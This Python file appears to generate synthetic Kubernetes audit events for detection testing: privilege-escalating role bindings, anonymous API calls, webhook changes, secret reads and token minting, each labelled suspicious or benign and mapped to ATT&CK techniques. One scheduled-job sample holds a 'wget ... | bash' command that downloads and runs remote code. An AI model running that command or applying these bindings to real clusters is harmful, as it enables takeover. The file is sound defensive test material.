"""Abuse of a Kubernetes cluster's identities: roles and bindings, nameless callers, hooks, secrets and tokens."""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any

from tasks.families.tellings import (
    ANONYMOUS,
    CLUSTER,
    OPERATOR,
    USER,
    Caller,
    Row,
    Telling,
    chain_on_cluster,
    each,
    kube,
    on_cluster,
)
from tasks.scene import EITHER, Family

_APART = (10, 300)  # seconds between the steps of an intrusion
# ---------------------------------------------------------------- roles
_BINDINGS = ("clusterrolebindings", "rolebindings")
_PERSON_BOUND = {"kind": "User", "name": "{other_user}"}


def _binding(role: str, subject: Mapping[str, str]) -> dict[str, Any]:
    """Write a binding of a role to a subject."""
    return {"roleRef": {"kind": "ClusterRole", "name": role}, "subjects": [subject], "kind": "ClusterRoleBinding"}


def _bindings(role: str, subject: Mapping[str, str], verbs: tuple[str, ...] = ("create", "patch")) -> list[Row]:
    return [
        kube(f"{verb} {thing}", _binding(role, subject), namespace="" if thing.startswith("cluster") else "{word9}")
        for thing in _BINDINGS
        for verb in verbs
    ]


_STRANGERS = ("system:anonymous", "system:unauthenticated", "system:authenticated")


def _group(name: str) -> dict[str, str]:
    return {"kind": "User" if name == "system:anonymous" else "Group", "name": name}


def _role(verbs: list[str], resources: list[str]) -> list[Row]:
    body = {"rules": [{"verbs": verbs, "resources": resources, "apiGroups": ["*"]}], "kind": "ClusterRole"}
    return [kube(f"{verb} clusterroles", body, namespace="") for verb in ("create", "update")] + [
        kube("create roles", body)
    ]


def _map(name: str, operation: str = "patch configmaps") -> Row:
    users = {"data": {"mapUsers": "- userarn: arn:aws:iam::{account}:user/{other_user}"}}
    return kube(operation, users, namespace="kube-system", name=name)


# ---------------------------------------------------------------- nameless callers and hooks
_ANONYMOUS_READS = ("list pods", "get configmaps", "list namespaces", "get pods/log", "list nodes")
_ANONYMOUS_ACTS = ("create configmaps", "delete pods", "patch services", "create namespaces", "get secrets")
_PUBLIC = ("get configmaps", "list configmaps", "get secrets", "patch configmaps", "list pods")
_RIGHT = {"spec": {"resourceAttributes": {"verb": "get", "resource": "pods"}}, "kind": "SelfSubjectAccessReview"}
_HOOKS = ("mutatingwebhookconfigurations", "validatingwebhookconfigurations")
_HOOK = {"webhooks": [{"name": "{word6}.{domain}", "clientConfig": {"url": "https://{domain}/{word7}"}}]}


def _hooks(verbs: tuple[str, ...], by: Caller = USER, source: str = "") -> list[Row]:
    return [kube(f"{verb} {thing}", _HOOK, by, namespace="", source=source) for thing in _HOOKS for verb in verbs]


def _scheduled(text: str) -> Row:
    """Describe a scheduled job that runs a line of shell."""
    container = {"command": ["sh", "-c"], "args": [text], "image": "{word7}:{number6}", "name": "{word6}"}
    job = {"spec": {"template": {"spec": {"containers": [container]}}}}
    return kube("create cronjobs", {"spec": {"jobTemplate": job}, "kind": "CronJob"}, after=_APART)


# ---------------------------------------------------------------- secrets and tokens
_LOOKS_AROUND = ("list namespaces", "list pods", "list deployments", "get deployments", "list services", "list events")


def _secrets(operation: str, by: Caller = USER, source: str = "", *, spread: bool = True, **more: Any) -> Telling:
    """Write seven reads of secrets: of as many namespaces (`list`) or names (`get`), or of the same over and over."""
    return [
        kube(
            operation,
            None,
            by,
            namespace=f"{{word{number if spread and operation.startswith('list') else 9}}}",
            name=f"{{word{number if spread else 8}}}-token" if operation.startswith("get") else "",
            source=source,
            **{"after": (4, 60), **more},
        )
        for number in range(10, 17)
    ]


def _looks(last: str, by: Caller = USER, source: str = "", namespace: str = "") -> Telling:
    looks = [kube(look, None, by, name="", source=source, after=(4, 60)) for look in _LOOKS_AROUND]
    return [*looks, kube(last, None, by, namespace=namespace, name="", source=source)]


_TOKEN = {"spec": {"audiences": ["https://{domain}"], "expirationSeconds": 31_536_000}, "kind": "TokenRequest"}
_APPROVAL = {"status": {"conditions": [{"type": "Approved", "reason": "{word7}"}]}, "kind": "CertificateSigningRequest"}


def _secret(kind: str) -> dict[str, Any]:
    return {
        "type": kind,
        "metadata": {"annotations": {"kubernetes.io/service-account.name": "{word7}"}},
        "kind": "Secret",
    }


def _tokens(by: Caller = USER, source: str = "") -> list[Row]:
    return [
        kube("create serviceaccounts/token", _TOKEN, by, source=source),
        *(
            kube(f"{verb} certificatesigningrequests/approval", _APPROVAL, by, namespace="", source=source)
            for verb in ("update", "patch")
        ),
        kube("create secrets", _secret("kubernetes.io/service-account-token"), by, source=source),
    ]


FAMILIES: tuple[Family, ...] = (
    on_cluster(
        "bound_administrator",
        "T1098.006",
        "persistence",
        ("kube-admin-bound",),
        confirmed=each(
            *(row for name in _STRANGERS for role in ("view", "cluster-admin") for row in _bindings(role, _group(name)))
        ),
        suspicious=each(
            *_bindings("cluster-admin", _PERSON_BOUND),
            *_bindings("cluster-admin", {"kind": "ServiceAccount", "name": "{word7}", "namespace": "{word6}"}),
            *_role(["*"], ["*"]),
            *_role(["get", "escalate"], ["clusterroles"]),
            *_role(["impersonate"], ["users"]),
            *(_map("aws-auth", f"{verb} configmaps") for verb in ("create", "update", "patch")),
        ),
        below=each(
            *_bindings("view", _PERSON_BOUND),
            *_bindings("edit", {"kind": "ServiceAccount", "name": "{word7}", "namespace": "{word6}"}),
            *_bindings("view", {"kind": "Group", "name": "{word7}-developers"}),
            *_role(["get", "list"], ["*"]),
            *_role(["*"], ["configmaps"]),
            *(_map("{word7}-auth", f"{verb} configmaps") for verb in ("create", "update", "patch")),
        ),
        reaches=EITHER,
    ),
    on_cluster(
        "nameless_caller",
        "T1078.001",
        "initial_access",
        ("kube-anonymous",),
        confirmed=each(*(kube(operation, None, ANONYMOUS) for operation in _ANONYMOUS_ACTS)),
        suspicious=each(*(kube(operation, None, ANONYMOUS) for operation in _ANONYMOUS_READS)),
        below=each(
            *(kube(operation, None, ANONYMOUS, namespace="kube-public") for operation in _PUBLIC),
            kube("create selfsubjectaccessreviews", _RIGHT, ANONYMOUS, namespace="", name=""),
            *(kube(operation, None, CLUSTER) for operation in (*_ANONYMOUS_READS[:2], *_ANONYMOUS_ACTS[:3])),
        ),
        reaches=EITHER,
        names_account=False,
        account="system:anonymous",
    ),
    on_cluster(
        "changed_hook",
        "T1546",
        "persistence",
        ("kube-hook-changed",),
        suspicious=each(*_hooks(("create", "update", "patch", "delete"))),
        below=each(
            *_hooks(("create", "update", "patch", "delete"), OPERATOR),
            *_hooks(("get", "list", "watch")),
            *_hooks(("create", "patch"), CLUSTER),
        ),
    ),
    chain_on_cluster(  # ATT&CK T1098.006, T1546, T1053.007: an administrator of the cluster, a hook before it, a job in it
        "settled_cluster",
        "T1546",
        "persistence",
        ("kube-hook-changed", "kube-admin-bound", "kube-workload-planted"),
        (
            (
                [
                    kube(
                        "create clusterrolebindings",
                        _binding("cluster-admin", _PERSON_BOUND),
                        namespace="",
                        after=_APART,
                    )
                ],
                [kube("create clusterrolebindings", _binding("view", _PERSON_BOUND), namespace="", after=_APART)],
            ),
            (
                [kube("create mutatingwebhookconfigurations", _HOOK, namespace="", after=_APART)],
                [kube("get mutatingwebhookconfigurations", _HOOK, namespace="", after=_APART)],
            ),
            (
                [_scheduled("wget -qO- http://{address2}/{word4} | bash")],
                [_scheduled("wget -q http://{address2}/{word4} -P /data")],
            ),
        ),
    ),
    # ------------------------------------------------------------ the held-out tactic
    on_cluster(
        "cluster_secrets",
        "T1552.007",
        "credential_access",
        ("kube-secrets-read",),
        suspicious=[
            _secrets("list secrets"),
            _secrets("get secrets"),
            _looks("list secrets"),
            _looks("watch secrets"),
        ],
        below=[
            _secrets("list secrets", spread=False),
            _secrets("get secrets", spread=False),
            _secrets("list secrets", OPERATOR),
            _secrets("get secrets", OPERATOR),
            _looks("list secrets", namespace="{word9}"),
            _looks("watch secrets", OPERATOR),
        ],
    ),
    on_cluster(
        "minted_token",
        "T1528",
        "credential_access",
        ("kube-token-made",),
        suspicious=each(*_tokens()),
        below=each(
            *_tokens(OPERATOR, "{ip}"),
            *_tokens(CLUSTER),
            kube("create secrets", _secret("Opaque")),
            kube("create certificatesigningrequests", _APPROVAL, namespace=""),
            kube("create serviceaccounts", _TOKEN),
        ),
    ),
)
